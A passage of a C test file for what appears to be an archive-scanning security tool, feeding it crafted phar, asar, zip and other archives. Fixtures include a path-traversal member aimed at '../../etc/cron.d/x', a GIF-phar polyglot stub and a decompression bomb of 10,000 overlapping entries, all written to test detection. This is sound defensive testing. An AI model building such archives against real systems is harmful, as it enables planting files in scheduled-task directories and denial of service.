        CHECK_INT(facts_get(&facts, F_ARCHIVE_MEMBERS)->u, 3);
        CHECK_INT(facts_get(&facts, F_ARCHIVE_BYTES)->u, strlen(SCRIPT) + 2);
        CHECK(!facts_has(&facts, F_ARCHIVE_PROBLEMS) && !facts_has(&facts, F_ARCHIVE_REFUSED));
    }
}

static void put_le32(struct strbuf *b, uint32_t n)
{
    n = htole32(n);
    strbuf_add(b, str_n((const char *)&n, sizeof(n)));
}

/* An archive of PHP with one bare file of the sizes given; `count` files are promised. */
static void phar(struct strbuf *b, const char *stub, const char *name, uint32_t size, uint32_t packed, uint32_t flags, uint32_t count, struct str bytes)
{
    _cleanup_(strbuf_done) struct strbuf m = {};
    put_le32(&m, count);
    strbuf_add(&m, STR("\x11\0"));
    put_le32(&m, 0x10000);
    put_le32(&m, 0);
    put_le32(&m, 0);
    put_le32(&m, (uint32_t)strlen(name));
    strbuf_adds(&m, name);
    put_le32(&m, size);
    put_le32(&m, 0);
    put_le32(&m, packed);
    put_le32(&m, 0);
    put_le32(&m, flags);
    put_le32(&m, 0);
    strbuf_clear(b);
    strbuf_adds(b, stub);
    put_le32(b, (uint32_t)m.n);
    strbuf_add(b, strbuf_str(&m));
    strbuf_add(b, bytes);
    strbuf_add(b, STR("01234567890123456789\2\0\0\0GBMB"));
}

/* Archives of PHP, and such as promise what is not there. */
TEST(an_archive_of_php)
{
    static const char STUB[] = "<?php __HALT_COMPILER(); ?>\r\n";
    const uint32_t n = (uint32_t)strlen(SCRIPT);
    const struct {
        const char *stub, *name;
        uint32_t size, packed, flags, count;
        const char *seen, *problems;
    } CASES[] = {
        {STUB, "bin/x", n, n, 0644, 1, "/a.phar!bin/x script [phar] downloads\n", "<NA>"},
        {"GIF89a<?php __HALT_COMPILER();", "x", n, n, 0644, 1, "/a.phar!x script [phar] downloads\n", "<NA>"},
        {STUB, "../x", n, n, 0644, 1, "/a.phar!../x script [phar] downloads\n", "(path-traversal)"},
        {STUB, "folder/", 0, 0, 0755, 1, "", "<NA>"},
        {STUB, "x", n, 99999, 0644, 1, "", "(corrupt)"},
        {STUB, "x", n, n, 0x11a4, 1, "", "(corrupt)"},
        {STUB, "x", n, n, 0x21a4, 1, "/a.phar!x script [phar] downloads\n", "<NA>"}, /* bare, though the manifest says bzip2 */
        {STUB, "x", n, n, 0644, UINT32_MAX, "/a.phar!x script [phar] downloads\n", "(corrupt)"},
    };
    _cleanup_(strbuf_done) struct strbuf b = {};
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        phar(&b, CASES[i].stub, CASES[i].name, CASES[i].size, CASES[i].packed, CASES[i].flags, CASES[i].count, STR(SCRIPT));
        look("/a.phar", strbuf_str(&b));
        if (strcmp(seen.p ? seen.p : "", CASES[i].seen) || strcmp(list(F_ARCHIVE_PROBLEMS), CASES[i].problems))
            test_fail(__FILE__, __LINE__, "case %zu: %s %s", i, seen.p ? seen.p : "", list(F_ARCHIVE_PROBLEMS));
        CHECK_CSTR(list(F_ARCHIVE_KIND), "phar");
    }
    /* No signature, no manifest: a script like others. */
    phar(&b, STUB, "x", n, n, 0644, 1, STR(SCRIPT));
    look("/a.phar", str_sub(strbuf_str(&b), 0, b.n - 1));
    CHECK(!facts_has(&facts, F_ARCHIVE_KIND));
    look("/a.php", STR("<?php __HALT_COMPILER(); ?>\r\n\xff\xff\xff\xff\0GBMB"));
    CHECK(!facts_has(&facts, F_ARCHIVE_KIND));
}

TEST(an_asar_archive_that_lies)
{
    static const struct {
        const char *directory, *seen, *problems;
        unsigned refused;
    } CASES[] = {
        {"{\"files\":{\"../../etc/cron.d/x\":{\"size\":2,\"offset\":\"0\"}}}", "/a!../../etc/cron.d/x json [asar]\n", "(path-traversal)", 0},
        {"{\"files\":{\"x\":{\"size\":200,\"offset\":\"0\"}}}", "/a!x script [asar] downloads\n", "(corrupt)", 1},
        {"{\"files\":{\"x\":{\"size\":2,\"offset\":\"99999\"}}}", "", "(corrupt)", 1},
        {"{\"files\":{\"x\":{\"size\":2,\"offset\":\"18446744073709551615\"}}}", "", "(corrupt)", 1},
        {"{\"files\":{\"x\":{\"size\":-2,\"offset\":\"0\"},\"y\":{\"size\":2,\"offset\":\"0\"}}}", "/a!y json [asar]\n", "(corrupt)", 1},
        {"{\"files\":{\"x\":{\"size\":2,\"offset\":\"0\"},\"y\":{\"size\":2,\"offset\":\"0\"}}}", "/a!x json [asar]\n/a!y json [asar]\n", "<NA>", 0},
        {"{\"files\":[1,2,3]}", "", "(corrupt)", 1},
        {"{\"files\":{\"x\":{\"size\":2,\"offset\":\"0\"}", "", "(corrupt)", 1},
        {"{\"files\":{\"x\":7,\"y\":null,\"z\":{}}}", "", "(corrupt)", 1},
        {"{\"files\":{}}", "", "<NA>", 0},
    };
    _cleanup_(strbuf_done) struct strbuf b = {}, bytes = {};
    strbuf_printf(&bytes, "{}");
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        strbuf_clear(&bytes);
        strbuf_adds(&bytes, i == 1 ? SCRIPT : "{}");
        asar(&b, CASES[i].directory, strbuf_str(&bytes));
        look("/a", strbuf_str(&b));
        if (strcmp(seen.p ? seen.p : "", CASES[i].seen) || strcmp(list(F_ARCHIVE_PROBLEMS), CASES[i].problems) ||
            facts_get(&facts, F_ARCHIVE_REFUSED)->u != CASES[i].refused)
            test_fail(__FILE__, __LINE__, "case %zu: %s %s %u", i, seen.p ? seen.p : "", list(F_ARCHIVE_PROBLEMS),
                      (unsigned)facts_get(&facts, F_ARCHIVE_REFUSED)->u);
    }
    /* A directory that says it is longer than the file. */
    asar(&b, "{\"files\":{\"x\":{\"size\":2,\"offset\":\"0\"}}}", STR("{}"));
    look("/a", str_sub(strbuf_str(&b), 0, 40));
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(corrupt)");
    /* Deeper than any folder of an application, and wider. */
    _cleanup_(strbuf_done) struct strbuf deep = {};
    strbuf_adds(&deep, "{\"files\":{");
    for (int i = 0; i < 40000; i++)
        strbuf_adds(&deep, "\"d\":{\"files\":{");
    asar(&b, deep.p, STR("{}"));
    look("/a", strbuf_str(&b));
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(corrupt)");
    /* Ten thousand names for the same megabyte: a bomb. */
    strbuf_clear(&deep);
    strbuf_adds(&deep, "{\"files\":{");
    for (int i = 0; i < 10000; i++)
        strbuf_printf(&deep, "%s\"f%d\":{\"size\":1000000,\"offset\":\"0\"}", i ? "," : "", i);
    strbuf_adds(&deep, "}}");
    strbuf_clear(&bytes);
    strbuf_pad(&bytes, 'x', 1000000);
    asar(&b, deep.p, strbuf_str(&bytes));
    look("/a", strbuf_str(&b));
    CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), "(bomb)");
    CHECK(facts_get(&facts, F_ARCHIVE_REFUSED)->u > 9000);
}

/* What nobody names lies between the files all the same. */
TEST(an_asar_archive_with_a_gap_is_looked_at_whole)
{
    _cleanup_(strbuf_done) struct strbuf b = {}, bytes = {};
    strbuf_printf(&bytes, "{}%s", SCRIPT);
    asar(&b, "{\"files\":{\"x\":{\"size\":2,\"offset\":\"0\"}}}", strbuf_str(&bytes));
    look("/a", strbuf_str(&b));
    CHECK_CSTR(seen.p, "/a!x json [asar]\n");
    CHECK(!facts_has(&facts, F_ARCHIVE_PROBLEMS));
}

TEST(nobody_takes_members)
{
    static const char *const only[] = {"script", "unwrap", NULL};
    _cleanup_(strbuf_done) struct strbuf b = {};
    _cleanup_(inspector_freep) struct inspector *in = NULL;
    CHECK_INT(inspector_new(&(struct inspect_options){.only = only}, &in, NULL), 0);
    zip(&b, "x", STR(SCRIPT));
    facts_done(&facts);
    facts_init(&facts);
    facts_reset(&facts, EVENT_FILE, 0);
    CHECK_INT(inspector_bytes(in, strbuf_str(&b), &facts), 0);
    CHECK_INT(facts_get(&facts, F_ARCHIVE_REFUSED)->u, 1);
    CHECK_CSTR(list(F_ARCHIVE_KIND), "zip");
}

TEST(what_is_not_read_is_told)
{
    static const struct {
        struct str bytes;
        const char *kind, *problem;
    } CASES[] = {
        {STR("7z\xbc\xaf\x27\x1c and so on"), "7z", "(corrupt)"},
        {STR("Rar!\x1a\7\1\0 and so on"), "rar", "(corrupt)"},
        {STR("hsqs and so on"), "squashfs", "(corrupt)"},
        {STR("MSCF\0\0\0\0 and so on"), "cab", "(corrupt)"},
    };
    for (size_t i = 0; i < ARRAY_SIZE(CASES); i++) {
        look("/x", CASES[i].bytes);
        CHECK_CSTR(list(F_ARCHIVE_KIND), CASES[i].kind);
        CHECK_CSTR(list(F_ARCHIVE_PROBLEMS), CASES[i].problem);
        CHECK_INT(facts_get(&facts, F_ARCHIVE_REFUSED)->u, 1);
    }
    look("/x", STR("no archive\n"));
    CHECK(!facts_has(&facts, F_ARCHIVE_KIND) && !facts_has(&facts, F_ARCHIVE_REFUSED));
}
